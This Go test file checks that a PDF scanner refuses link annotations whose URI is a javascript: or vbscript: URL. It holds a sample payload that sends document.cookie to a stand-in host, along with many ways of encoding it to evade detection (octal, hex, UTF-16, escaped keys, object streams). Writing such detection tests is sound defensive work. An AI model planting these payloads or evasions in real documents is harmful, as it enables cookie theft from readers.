package filecheck

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// uriLinkPDF is a one-page PDF whose page has a link annotation with the
// action action (a /URI action as written, or a reference).
func uriLinkPDF(action string, more ...string) []byte {
	w := newPDFWriter("1.7")
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	w.obj(2, "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>")
	w.obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Annots [ 4 0 R ] >>")
	w.obj(4, "<< /Type /Annot /Subtype /Link /Rect [ 72 700 300 720 ] /Border [ 0 0 0 ] /A "+action+" >>")
	for i, m := range more {
		w.obj(5+i, m)
	}
	w.xref(" /Root 1 0 R")
	return w.bytes()
}

// TestPDFScriptURI (issue 32, "Noted"): a link whose /URI is a
// javascript: (or vbscript:) URL is refused however the string is
// written; pdf.js, MuPDF or qpdf read the script URL from each file, as
// the attacker said. A link to a web page passes.
func TestPDFScriptURI(t *testing.T) {
	js := "javascript:fetch('//x.invalid/'+document.cookie)"
	utf16, utf16le := "\xFE\xFF", "\xFF\xFE"
	for _, c := range js {
		utf16 += "\x00" + string(c)
		utf16le += string(c) + "\x00"
	}
	for _, c := range []struct {
		name string
		pdf  []byte
	}{
		{"literal", uriLinkPDF("<< /S /URI /URI (" + js + ") >>")},
		{"upper case", uriLinkPDF("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>")},
		{"spaces and controls before it", uriLinkPDF("<< /S /URI /URI (  \\t\\001javascript:alert\\(1\\)) >>")},
		{"tabs and line breaks inside", uriLinkPDF("<< /S /URI /URI (java\\tscr\\\nipt\\n:alert\\(1\\)) >>")},
		{"octal escapes", uriLinkPDF("<< /S /URI /URI (\\152ava\\163cript:alert\\(1\\)) >>")},
		{"escaped letters", uriLinkPDF("<< /S /URI /URI (\\j\\a\\v\\ascript:alert\\(1\\)) >>")},
		{"hex string", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(js)) + "> >>")},
		{"hex string with spaces", uriLinkPDF("<< /S /URI /URI <6A 61 76 61\n73 63 72 69 70 74 3A 61>>>")},
		{"hex string with other bytes", uriLinkPDF("<< /S /URI /URI <6A.61 x 76<61(73 63 72 69 70 74 3A 61> >>")},
		{"hex string after a comment's (", uriLinkPDF("<< /S /URI /URI %(\n<x6A6176617363726970743A61> >>")},
		{"UTF-16 with its mark", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(utf16)) + "> >>")},
		{"UTF-16LE with its mark", uriLinkPDF("<< /S /URI /URI <" + hex.EncodeToString([]byte(utf16le)) + "> >>")},
		{"UTF-16LE literal", uriLinkPDF("<< /S /URI /URI (" + pdfLiteral(utf16le) + ") >>")},
		{"escaped key", uriLinkPDF("<< /S /U#52I /U#52I (" + js + ") >>")},
		{"indirect", uriLinkPDF("<< /S /URI /URI 5 0 R >>", "("+js+")")},
		{"vbscript", uriLinkPDF("<< /S /URI /URI (vbscript:msgbox\\(1\\)) >>")},
		{"in an object stream", func() []byte {
			p := newXrefPDF()
			p.objStm(5, " /Filter /FlateDecode", scriptMembers("<< /S /URI /URI ("+js+") >>"), deflate)
			return p.finish(20, " /Root 1 0 R")
		}()},
	} {
		t.Run(c.name, func(t *testing.T) {
			if code := fileKind(t, c.pdf, testLimits()); code != ActiveContent {
				t.Fatalf("got %q, want %s", code, ActiveContent)
			}
			got := readersFind(t, c.pdf)
			if who := readersThatFind(got, "script"); len(who) == 0 {
				t.Fatalf("no reader reads the script URL: %v", got)
			}
		})
	}
	for _, uri := range []string{"(https://www.banco.example/pagare?id=1)", "(mailto:cartera@banco.example)", "<68747470733A2F2F782E6578616D706C65>", "<6874 x 7470733A2F2F782E6578616D706C65>", "(JavaScript and PDF)"} {
		t.Run("passes "+uri, func(t *testing.T) {
			if code := fileKind(t, uriLinkPDF("<< /S /URI /URI "+uri+" >>"), testLimits()); code != accepted {
				t.Fatalf("refused with %s", code)
			}
		})
	}
	if !strings.HasPrefix(js, "javascript:") {
		t.Fatal("the script URL of the test")
	}
}

// pdfLiteral escapes s for a PDF literal string: every byte outside
// printable ASCII, and the delimiters, as an octal escape.
func pdfLiteral(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x20 || c > 0x7e || c == '(' || c == ')' || c == '\\' {
			fmt.Fprintf(&b, "\\%03o", c)
			continue
		}
		b.WriteByte(c)
	}
	return b.String()
}
